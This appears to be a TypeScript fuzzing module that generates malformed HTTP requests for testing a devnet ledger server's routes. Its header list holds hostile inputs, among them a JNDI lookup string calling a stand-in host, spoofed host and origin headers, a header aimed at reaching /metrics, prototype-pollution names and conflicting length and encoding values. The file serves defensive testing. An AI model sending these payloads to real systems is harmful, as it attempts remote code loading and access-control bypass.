import type { Random } from '../../src/devnet/ledger/random.ts'
import { anyHostile, BROKEN_PIECES, MARKS, mutate, percentBytes } from './hostile-text.ts'
import type { Target } from './targets.ts'

/** Ids that exist, by the names of their shapes. */
export type RealIds = Readonly<Record<string, readonly [string, ...string[]]>>

/** A request as it is written to the line: every character is one byte. */
export type FuzzRequest = {
  target: Target
  method: string
  path: string
  headers: readonly (readonly [name: string, value: string])[]
  body: string
}

const METHODS: readonly [string, ...string[]] = [
  'HEAD',
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'get',
  'FOO',
  'CONNECT',
]
const OTHER_METHODS = 0.06
/** Names beside those a call knows: what frameworks and languages trip over. */
const QUERY_NAMES: readonly [string, ...string[]] = [
  'page',
  'kw',
  'search',
  'q',
  'drawn',
  'is_block',
  'since',
  '__proto__',
  'constructor',
  'a[]',
  'page[]',
  'kw[$gt]',
  'callback',
  '',
  '%00',
]

const HEADERS: readonly [readonly [string, string], ...(readonly [string, string])[]] = [
  ['cookie', 'lang=<fzmark>; theme="fzattr='],
  ['cookie', `lang=ko; theme=dark; nft_type=../..; config=%7B%22__proto__%22%3A1%7D; ${'a=1; '.repeat(200)}`],
  ['cookie', 'lang=%E0%A4%A; lang; =; ;;;'],
  ['cookie', `__proto__=1; constructor=x; lang=${'x'.repeat(4000)}`],
  ['accept-language', 'ko;q=NaN,*;q=-1,<fzmark>'],
  ['accept-encoding', 'gzip;q=1e999, br;q=x, *;q=0, identity;q=0'],
  ['accept-encoding', 'gzip'],
  ['accept-encoding', `br${',gzip'.repeat(500)}`],
  ['accept', 'text/html;<fzmark>'],
  ['if-none-match', '*'],
  ['if-none-match', `"${'x'.repeat(2000)}", W/"<fzmark>"`],
  ['if-modified-since', 'Sat, 99 Foo 99999 99:99:99 GMT'],
  ['if-match', '"nothing"'],
  ['range', 'bytes=0-'],
  ['range', 'bytes=-1,5-2,99999999999999999999-'],
  ['range', `bytes=${'0-1,'.repeat(400)}`],
  ['host', 'evil.example'],
  ['host', 'a"><fzmark>'],
  ['host', 'localhost:99999999'],
  ['x-forwarded-for', '<fzmark>, 10.0.0.1, ::1'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['forwarded', 'for="_<fzmark>";host=evil.example'],
  ['x-original-url', '/metrics'],
  ['x-http-method-override', 'DELETE'],
  ['upgrade', 'h2c'],
  ['upgrade', 'websocket'],
  ['upgrade-insecure-requests', '1'],
  ['origin', 'https://evil.example'],
  ['origin', 'null'],
  ['referer', 'javascript:<fzmark>'],
  ['user-agent', '${jndi:ldap://evil.example/a}<fzmark>\u00ff\u009b31m'],
  ['authorization', 'Basic AAAA\u00ff'],
  ['content-type', 'application/json; charset=<fzmark>'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['transfer-encoding', 'chunked'],
  ['content-length', '-1'],
  ['content-length', '99999999999'],
  ['expect', '100-continue'],
  ['connection', 'close, x-fzmark'],
  ['x-crypt-key', '<fzmark>'],
  ['x-long', 'x'.repeat(8000)],
  ['x-longer', 'x'.repeat(20_000)],
]

/** One request to a route. Most are good but for one thing; some are bad all over. */
export function makeRequest(target: Target, ids: RealIds, random: Random): FuzzRequest {
  const pathIsHostile = random.chance(0.6)
  let path = fillPath(target, ids, random, pathIsHostile) || '/'
  if (random.chance(0.05)) path = `/v1${path}`
  if (random.chance(0.08)) path += random.pick(['/', '//', '/x', '/%00', '/..', '/.', '%2f', '.json', ';a=b', '/1/2/3', '\u00ff'])
  if (random.chance(0.05)) path = splice(path, random.pick(BROKEN_PIECES), random)
  if (random.chance(pathIsHostile ? 0.3 : 0.7)) path += `?${makeQuery(target, ids, random)}`
  const method = random.chance(OTHER_METHODS) ? random.pick(METHODS) : 'GET'
  const headers = random.chance(0.35) ? Array.from({ length: 1 + random.below(3) }, () => random.pick(HEADERS)) : []
  const hasBody = (method !== 'GET' && random.chance(0.5)) || random.chance(0.01)
  return {
    target,
    method,
    path: toLine(path),
    headers,
    body: hasBody ? random.pick(['{broken', '{"__proto__":1}', 'x'.repeat(3000), `${MARKS.element}>`]) : '',
  }
}

/** A line of a request ends at a blank or a line break: with these it would be another request. All else may stand in it. */
const toLine = (path: string): string => path.replaceAll(/[^\u0021-\u00ff]|\u007f/g, (character) => percentBytes(character))

const splice = (path: string, piece: string, random: Random): string => {
  const at = 1 + random.below(path.length)
  return path.slice(0, at) + piece + path.slice(at)
}

function fillPath({ name, params }: Target, ids: RealIds, random: Random, isHostile: boolean): string {
  return name.replaceAll(/\{(\w+)\}/g, (_whole, param: string) => {
    const real = random.pick(ids[params[param] ?? 'keyword'] ?? ['1'])
    if (!isHostile || random.chance(0.25)) return percentBytes(real)
    const kind = random.unit()
    if (kind < 0.25) return percentBytes(mutate(real, random))
    if (kind < 0.4) return random.pick(BROKEN_PIECES)
    const text = anyHostile(random)
    if (kind < 0.8) return percentBytes(text)
    if (kind < 0.9) return encodeURIComponent(percentBytes(text))
    // As it is, where a line can hold it.
    return text.replaceAll(/[\s?#]/g, '')
  })
}

function makeQuery({ query }: Target, ids: RealIds, random: Random): string {
  const names = query.length > 0 && random.chance(0.7) ? (query as [string, ...string[]]) : QUERY_NAMES
  const parts = Array.from({ length: 1 + random.below(3) }, () => {
    const name = random.pick(names)
    const real = random.pick(Object.values(ids) as [readonly [string, ...string[]]])
    const value = random.chance(0.2)
      ? random.pick(real)
      : random.chance(0.2)
        ? random.pick(BROKEN_PIECES)
        : percentBytes(anyHostile(random))
    return random.chance(0.1) ? name : `${name}=${value}`
  })
  return random.chance(0.05)
    ? `${parts.join('&')}&${'a=1&'.repeat(300)}`
    : random.chance(0.2)
      ? [...parts, ...parts].join('&')
      : parts.join('&')
}
